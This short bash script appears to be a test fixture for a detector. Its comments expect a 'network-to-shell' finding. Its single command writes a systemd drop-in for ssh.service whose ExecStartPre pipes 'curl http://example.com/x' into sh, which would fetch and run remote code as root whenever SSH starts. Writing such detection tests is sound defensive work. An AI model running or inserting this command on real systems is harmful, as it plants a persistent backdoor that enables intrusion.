#!/bin/bash
# shows: a unit's further command
# expect: network-to-shell at line 4
mkdir -p /etc/systemd/system/ssh.service.d && printf '[Service]\nExecStartPre=/bin/sh -c "curl http://example.com/x | sh"\n' >/etc/systemd/system/ssh.service.d/x.conf
